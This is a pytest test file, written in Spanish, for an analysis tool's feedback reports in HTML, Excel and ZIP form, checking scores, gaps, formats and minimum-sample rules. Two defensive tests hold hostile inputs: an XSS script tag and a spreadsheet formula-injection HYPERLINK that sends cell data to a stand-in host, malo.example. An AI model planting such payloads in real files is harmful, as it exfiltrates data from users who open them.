"""Informes de realimentación: se generan con la demostración y se abren para comprobar sus cifras clave."""

import io
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from analisis import competencias as c
from analisis import informes
from analisis.formato import EXCEL_PUNTOS, con_signo, porcentaje
from datos import demo
from datos.cuentas import exportar
from datos.consultas.competencias import (estandar_competencias, puntajes_auditorias, puntajes_competencias,
                                          resultados_por_agente, temas_capacitacion)
from datos.consultas.filtros import Filtros, ventana_de_meses

ESCALAS = c.reglas_de_escala()


@pytest.fixture(scope="module")
def datos(demo_compartida):
    """Resultados de los informes sobre la demostración (escala 0,3), últimos 12 meses, trimestres."""
    con = demo_compartida(escala=0.3).ibis()
    filtros = ventana_de_meses(Filtros(hasta=demo.FECHA_FIN), 12)
    leer = lambda consulta, *args: consulta(con, *args).to_pandas()  # noqa: E731
    estandar = leer(estandar_competencias)
    puntajes = leer(puntajes_competencias, filtros, ESCALAS)
    por_ronda = leer(puntajes_competencias, filtros, ESCALAS, "trimestre")
    rondas = sorted(por_ronda["ronda"].unique())
    impactos = c.impacto(leer(resultados_por_agente, filtros, "csat"), c.brechas(puntajes, estandar))
    resultado = informes.resultados(
        puntajes, por_ronda, leer(puntajes_auditorias, filtros, ESCALAS, c.UMBRAL_CRITICO), estandar,
        leer(temas_capacitacion), impactos, antes=rondas[-2], despues=rondas[-1],
        periodo="Del 1 de noviembre de 2025 al 31 de octubre de 2026", rondas="3.er frente a 4.º trimestre",
        minimo=5)
    return resultado


def _texto(html: str) -> str:
    """El texto visible de un HTML (sin etiquetas)."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


def test_informe_de_equipo_en_html_con_sus_cifras(datos):
    informe = informes.informe_equipo(datos, "Equipo Orinoco")
    html = informes.a_html(informe)
    texto = _texto(html)
    fila = datos.auditorias_equipo.set_index("grupo").loc["Equipo Orinoco"]
    resolucion = datos.brechas_equipo.set_index(["grupo", "competencia"]).loc[("Equipo Orinoco", "resolucion")]
    assert html.startswith("<!DOCTYPE html>") and 'lang="es"' in html and "<svg" in html
    assert "<script" not in html and "http" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "Informe de realimentación · Equipo Orinoco" in texto
    assert f"Auditorías {int(fila['n'])}" in texto
    assert porcentaje(fila["puntaje"]) in texto
    assert porcentaje(resolucion["puntaje"]) in texto
    assert f"+{100 * resolucion['brecha']:.1f} pts".replace(".", ",") in texto
    assert informe.plan["Competencia"].iloc[0] == "Resuelve problemas"
    assert "Destrezas técnicas" in texto and "Agentes del equipo" in texto
    assert "asociación observada, no una prueba de causa" in texto


def test_informe_de_equipo_en_excel(datos):
    informe = informes.informe_equipo(datos, "Equipo Caribe")
    libro = load_workbook(io.BytesIO(exportar.libro(informes.libro_excel(informe))))
    assert libro.sheetnames == ["Resumen", "Competencias", "Progreso", "Plan", "Agentes"]
    assert libro["Resumen"]["A1"].value == "Informe de realimentación · Equipo Caribe"
    hoja = libro["Competencias"]
    encabezado = [celda.value for celda in hoja[1]]
    filas = {fila[0]: dict(zip(encabezado, fila)) for fila in hoja.iter_rows(min_row=2, values_only=True)}
    esperado = datos.brechas_equipo.set_index(["grupo", "competencia"]).loc[("Equipo Caribe", "escucha")]
    assert filas["Escucha con atención"]["Puntaje"] == pytest.approx(esperado["puntaje"])
    assert filas["Escucha con atención"]["Brecha"] == pytest.approx(100 * esperado["brecha"])
    assert hoja["B2"].number_format == "0.0%"
    assert len(hoja._charts) == 1
    agentes = [fila[0] for fila in libro["Agentes"].iter_rows(min_row=2, values_only=True)]
    assert any("AGE-008" in a for a in agentes)


def _celdas_de_cifras(libro) -> dict[str, list]:
    """Hoja → celdas (sin la primera columna ni los encabezados) cuyo texto parece una cifra («225», «85,7 %»)."""
    cifra = re.compile(r"^[+-]?\d[\d.,]*( ?%| pts)?$")
    return {hoja.title: [c.coordinate for fila in hoja.iter_rows(min_row=2, min_col=2) for c in fila
                         if isinstance(c.value, str) and cifra.match(c.value.strip())] for hoja in libro.worksheets}


def test_el_excel_lleva_numeros_con_formato_y_la_brecha_en_puntos_como_el_html(datos):
    informe = informes.informe_equipo(datos, "Equipo Caribe")
    libro = load_workbook(io.BytesIO(exportar.libro(informes.libro_excel(informe))))
    assert not any(_celdas_de_cifras(libro).values()), _celdas_de_cifras(libro)
    fila = datos.auditorias_equipo.set_index("grupo").loc["Equipo Caribe"]
    resumen = {f[0].value: f[1:] for f in libro["Resumen"].iter_rows(min_row=4) if f[0].value}
    assert resumen["Auditorías"][0].value == int(fila["n"]) and resumen["Auditorías"][0].number_format == "#,##0"
    assert resumen["Puntaje global de auditoría"][0].value == pytest.approx(fila["puntaje"])
    assert resumen["Puntaje global de auditoría"][0].number_format == "0.0%"
    assert [c.value for c in resumen["Intervalo de confianza 95 %"][:2]] == pytest.approx([fila["ic_inf"], fila["ic_sup"]])
    plan = libro["Plan"]
    columna = [c.value for c in plan[1]].index("Brecha")
    brecha, formato = plan.cell(2, columna + 1).value, plan.cell(2, columna + 1).number_format
    assert formato == EXCEL_PUNTOS and brecha == pytest.approx(100 * informe.plan["Brecha"].iloc[0])
    texto = _texto(informes.a_html(informe))
    assert f"{informe.plan['Competencia'].iloc[0]} {con_signo(brecha, 1, ' pts')}" in texto
    progreso = libro["Progreso"]
    assert progreso.cell(2, [c.value for c in progreso[1]].index("Cambio") + 1).number_format == EXCEL_PUNTOS
    pocos = informes.informe_equipo(informes.Resultados(**{**datos.__dict__, "minimo": 500}), "Equipo Caribe")
    agentes = load_workbook(io.BytesIO(exportar.libro(informes.libro_excel(pocos))))["Agentes"]
    encabezado = [c.value for c in agentes[1]]
    filas = [dict(zip(encabezado, f)) for f in agentes.iter_rows(min_row=2, values_only=True)]
    assert all(f["Puntaje"] is None and "Menos de 500 auditorías" in f["Nota"] for f in filas)
    assert all(isinstance(f["Auditorías"], int) for f in filas)


def test_informe_de_agente_frente_a_su_equipo(datos):
    informe = informes.informe_agente(datos, "AGE-008")
    assert not informe.avisos
    assert {d.nombre: d.valor for d in informe.resumen}["Equipo"] == "Equipo Caribe"
    assert informe.competencias["referencia"].notna().all()
    texto = _texto(informes.a_html(informe))
    assert "Círculo: puntaje del equipo" in texto and "Equipo" in texto


def test_no_se_muestran_cifras_bajo_el_minimo(datos):
    pocos = informes.Resultados(**{**datos.__dict__, "minimo": 500})
    informe = informes.informe_agente(pocos, "AGE-008")
    assert informe.competencias.empty and informe.plan.empty
    assert "se necesitan al menos 500" in informe.avisos[0]
    texto = _texto(informes.a_html(informe))
    assert "Resultados por competencia" not in texto and "Puntaje global" not in texto
    equipo = informes.informe_equipo(pocos, "Equipo Caribe")
    assert equipo.agentes["Puntaje"].isna().all()
    assert "menos de 500 auditorías" in _texto(informes.a_html(equipo))
    assert "menos de 500 auditorías" in c.opciones_de_agentes(pocos.auditorias_agente, 500)["AGE-008"]


def test_zip_con_todos_los_equipos(datos):
    archivo = zipfile.ZipFile(io.BytesIO(exportar.a_zip(informes.archivos_de_informes(informes.informes_de_equipos(datos)))))
    nombres = sorted(archivo.namelist())
    assert len(nombres) == 2 * len(demo.EQUIPOS)
    assert "informe_equipo_pacifico.html" in nombres and "informe_equipo_pacifico.xlsx" in nombres
    assert "Equipo Pacífico" in archivo.read("informe_equipo_pacifico.html").decode("utf-8")


def test_el_html_escapa_los_textos_de_los_datos(datos):
    informe = informes.informe_equipo(datos, "Equipo Andes")
    raro = informes.Informe(**{**informe.__dict__, "titulo": "<script>alert(1)</script>"})
    assert "<script>" not in informes.a_html(raro)
    assert informes.nombre_de_archivo("¿Ñandú / Sur?") == "nandu_sur"


def test_el_excel_y_el_zip_no_llevan_formulas_vivas(datos):
    informe = informes.informe_equipo(datos, "Equipo Andes")
    agentes = informe.agentes.assign(Agente='=HYPERLINK("http://malo.example/?d="&A1,"Ver")')
    plan = informe.plan.assign(Temas="=1+2")
    hostil = informes.Informe(**{**informe.__dict__, "titulo": "@SUMA(1+1)", "agentes": agentes, "plan": plan})
    comprimido = zipfile.ZipFile(io.BytesIO(exportar.a_zip(informes.archivos_de_informes([hostil]))))
    libro = load_workbook(io.BytesIO(comprimido.read("informe_equipo_andes.xlsx")))
    celdas = [celda for hoja in libro.worksheets for fila in hoja.iter_rows() for celda in fila]
    assert not [c.coordinate for c in celdas if c.data_type == "f"]
    textos = {c.value for c in celdas if isinstance(c.value, str)}
    assert {"'=1+2", "'@SUMA(1+1)", "'" + agentes["Agente"].iloc[0]} <= textos
    assert not [t for t in textos if t.startswith(("=", "+", "-", "@"))]


def test_tablas_en_espanol(datos):
    tabla = informes.texto_brechas(datos.brechas_equipo, "Equipo")
    assert list(tabla.columns) == ["Equipo", "Competencia", "Puntaje", "IC 95 %", "Meta", "Brecha", "n", "Lectura"]
    assert tabla["Puntaje"].str.contains(",").any() and tabla.iloc[0]["Lectura"] == "Brecha clara"
    progreso = informes.texto_progreso(datos.progreso_equipo, "Equipo")
    assert set(progreso["Lectura"]) <= {"Mejoró", "Empeoró", "Sin cambio claro", "Muestra insuficiente"}
    assert isinstance(informes.texto_necesidades(datos.plan_equipo, "Equipo"), pd.DataFrame)
